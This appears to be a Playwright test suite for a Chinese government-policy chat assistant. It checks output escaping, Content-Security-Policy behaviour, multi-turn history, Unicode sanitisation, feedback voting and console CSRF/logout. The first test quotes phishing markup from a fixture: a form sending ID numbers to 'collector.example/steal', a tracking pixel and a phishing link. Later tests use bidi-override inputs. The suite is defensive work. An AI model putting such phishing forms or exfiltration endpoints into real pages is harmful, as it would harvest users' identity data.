"""Issue 12 in a real browser (Playwright over Debian's chromium) against the hardened served app.

A fictional notice in the corpus (tests/fixtures/markup/shifan_phishing.txt) carries a form asking for the
身份证号, a remote tracking image, a Markdown link, a bare URL and a www. address.  Quoted in an answer, all of
it must show as text: nothing live in the bubble, no request leaving the machine.  The page must also work
under the Content-Security-Policy (no violation), and the console must work with its CSRF token and log out.
"""

from __future__ import annotations

import itertools
import re
import sqlite3
import time

import pytest

from tests.ui.conftest import (ANSWER_TIMEOUT_MS, remove_failed_upload, STAFF_PASSWORD, STAFF_USER, ask_in_chat, bot_messages, choose_files,
                               login_console, open_sources)

pytestmark = pytest.mark.slow

PHISHING_QUESTION = "示范市青年见习补贴怎么领取?需要登记什么?"
LIVE_ELEMENTS = "form, input, button, img, iframe, script, svg, video, audio, object, embed, a"
_clients = itertools.count(1)


@pytest.fixture
def tab(browser, hardened_app):
    """A fresh tab as one more client behind the proxy; every request off this machine is blocked and noted,
    and so is every CSP violation."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN",
                                  extra_http_headers={"X-Forwarded-For": f"192.0.2.{next(_clients)}"})
    left, violations = [], []

    def only_this_machine(route):
        if re.match(r"https?://(127\.0\.0\.1|localhost)[:/]", route.request.url):
            route.continue_()
        else:
            left.append(route.request.url)
            route.abort()

    context.route("**/*", only_this_machine)
    context.add_init_script("document.addEventListener('securitypolicyviolation', "
                            "e => console.error('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI))")
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.on("console", lambda m: violations.append(m.text) if "CSP violation" in m.text or "Content Security" in m.text
            else None)
    page.left, page.violations = left, violations
    yield page
    context.close()


def open_hardened_chat(page, app) -> None:
    page.goto(app.url + "/")
    page.locator("#question textarea").wait_for(state="visible")


# the only live markup in a bubble: the app's own links to a cited passage or its file (render.answer_bubble)
OWN_LINK = r"^/documents/[0-9a-f]{16}(/view(\?chunk=[0-9a-f]+)?#passage)?$"


def _live_in_bubbles(page) -> list[str]:
    return page.locator('#chatbot [data-testid="bot"]').evaluate_all(
        f"(bots, own) => bots.flatMap(b => [...b.querySelectorAll('{LIVE_ELEMENTS}')])"
        ".filter(e => !(e.tagName === 'A' && new RegExp(own).test(e.getAttribute('href'))))"
        ".map(e => e.outerHTML.slice(0, 120))", OWN_LINK)


def test_markup_from_a_document_is_text_in_the_answer_and_nothing_leaves_the_machine(tab, hardened_app):
    open_hardened_chat(tab, hardened_app)
    # the notice's markup, quoted, reads as the characters it is made of
    form = ask_in_chat(tab, PHISHING_QUESTION)
    assert '<form action="//collector.example/steal"' in form and "请输入身份证号" in form, form
    tracking = ask_in_chat(tab, "示范市见习补贴发放进度在哪里查看?")
    assert '<img src="//tracker.example/pixel.gif' in tracking and "//phish.example/claim" in tracking, tracking
    assert "https://" not in form + tracking  # sentences holding a full URL never reach an answer at all
    open_sources(tab)  # the source cards under the answer: their passages are text too
    assert _live_in_bubbles(tab) == [], _live_in_bubbles(tab)
    own = tab.locator('#chatbot [data-testid="bot"] a').evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert any("/view?chunk=" in href for href in own), own  # [n] and 查看原文位置 lead to the viewer
    time.sleep(1)  # an image or prefetch would have fired by now
    assert tab.left == [], tab.left
    assert tab.violations == [], tab.violations


def test_a_three_turn_follow_up_works_in_the_page(tab, hardened_app):
    """Gradio 6 sends history as lists of parts; the chat passed str() of them, and the third turn was searched
    as "[{'type': 'text', 'text': '那农民工呢?'}]" and refused."""
    open_hardened_chat(tab, hardened_app)
    first = ask_in_chat(tab, "今年高校毕业生就业有哪些支持?")
    assert "高校毕业生" in first
    second = ask_in_chat(tab, "那退役军人呢?")
    assert "退役军人" in second and "共引用" in second
    third = ask_in_chat(tab, "那农民工呢?")
    assert "没有找到依据" not in third and "共引用" in third, third
    assert "{'" not in third and "'type'" not in third
    assert tab.violations == [] and tab.left == []


def test_invisible_and_reordering_characters_are_never_answered_or_echoed(tab, hardened_app):
    open_hardened_chat(tab, hardened_app)
    tab.locator("#question textarea").fill("\u200b\u200c\u200d\u2060")
    tab.locator("#send").click()
    tab.get_by_text("请输入您要咨询的问题").first.wait_for()  # a notice, and no question was asked
    assert bot_messages(tab).count() == 0
    ask_in_chat(tab, "\u202e今年高校毕业生就业有哪些支持?\u202c")
    shown = tab.locator('#chatbot [data-testid="user"]').last.inner_text()
    assert "\u202e" not in shown and "\u202c" not in shown and "今年高校毕业生就业有哪些支持?" in shown


def test_one_vote_per_answer_however_often_it_is_clicked(tab, hardened_app):
    open_hardened_chat(tab, hardened_app)
    question = "零就业家庭有什么帮扶?"
    ask_in_chat(tab, question)
    database = hardened_app.index_dir / "feedback.sqlite3"
    chatbot = tab.locator("#chatbot")
    chatbot.get_by_role("button", name=re.compile(r"^(赞|Like)$")).last.click()
    tab.locator("#feedback-note", has_text="感谢反馈").wait_for()
    for _ in range(6):  # un-vote, vote, … (the button reads "Liked" once pressed): every click reaches the server
        chatbot.get_by_role("button", name=re.compile(r"^(赞|Like|Liked)$")).last.click()
        time.sleep(0.3)
    chatbot.get_by_role("button", name=re.compile(r"^(踩|Dislike)$")).last.click()

    def rows():
        with sqlite3.connect(database) as db:
            return db.execute("SELECT rating FROM feedback WHERE question = ?", (question,)).fetchall()

    deadline = time.monotonic() + 15
    while rows() != [("down",)] and time.monotonic() < deadline:
        time.sleep(0.2)
    assert rows() == [("down",)]  # one row for the answer, holding the last vote


def test_the_console_works_with_its_token_and_logs_out(tab, hardened_app, tmp_path):
    broken = tmp_path / "示范市损坏的通知.pdf"
    broken.write_bytes(b"%PDF-1.4 broken on purpose")
    login_console(tab, hardened_app, user=STAFF_USER, password=STAFF_PASSWORD)
    assert {c["name"]: c["sameSite"] for c in tab.context.cookies()}.get("assistant-csrf") == "Strict"

    choose_files(tab, broken)
    tab.locator("#upload-button").click()
    result = tab.locator("#upload-results", has_text="示范市损坏的通知.pdf")
    result.wait_for(timeout=ANSWER_TIMEOUT_MS)
    assert "失败" in result.inner_text() and "上传失败的文件" in result.inner_text()
    assert not (hardened_app.corpus_dir / "uploads" / broken.name).exists()  # it never entered the corpus

    tab.get_by_role("tab", name="上传失败的文件").click()
    tab.locator("#failed-table [role=row]", has_text=broken.name).wait_for()
    remove_failed_upload(tab, "损坏", "示范市损坏的通知")
    tab.locator("#failed-table [role=row]", has_text=broken.name).wait_for(state="detached")

    tab.locator("#logout-button").click()
    tab.get_by_label(re.compile(r"用户名|username")).wait_for()
    assert not [c for c in tab.context.cookies() if c["name"].startswith(("access-token", "assistant-csrf"))]
    tab.goto(hardened_app.console_url + "/admin/")
    tab.get_by_label(re.compile(r"用户名|username")).wait_for()  # the console asks for a login again
    assert tab.violations == [] and tab.left == []
